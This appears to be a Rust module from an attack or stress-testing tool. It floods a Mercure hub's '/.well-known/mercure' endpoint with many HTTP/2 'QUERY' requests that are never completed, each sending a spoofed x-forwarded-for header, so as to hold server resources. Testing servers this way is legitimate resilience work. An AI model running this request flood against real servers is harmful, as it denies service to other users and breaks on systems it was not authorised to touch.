//! Subscriptions are begun whose forms do not come, many on each connection.

use std::time::Duration;

use tokio::time::sleep;

use crate::attack::{Attack, AttackFuture, Target};

#[derive(Debug)]
pub(crate) struct QueriesWithoutForms;

impl Attack for QueriesWithoutForms {
    fn name(&self) -> &'static str {
        "queries without forms"
    }

    fn run<'a>(&'a self, target: &'a Target) -> AttackFuture<'a> {
        Box::pin(async move {
            let mut held = Vec::new();
            for _ in 0..20 {
                let Some(mut requests) = target.http2(65_535).await else { continue };
                for _ in 0..100 {
                    // This machine has no share of the requests to keep to.
                    let asked = target.request("QUERY", "/.well-known/mercure");
                    let asked = asked.header("x-forwarded-for", "192.0.2.66").body(()).unwrap();
                    held.push(requests.send_request(asked, false));
                }
            }
            sleep(Duration::from_secs(1)).await;
        })
    }
}
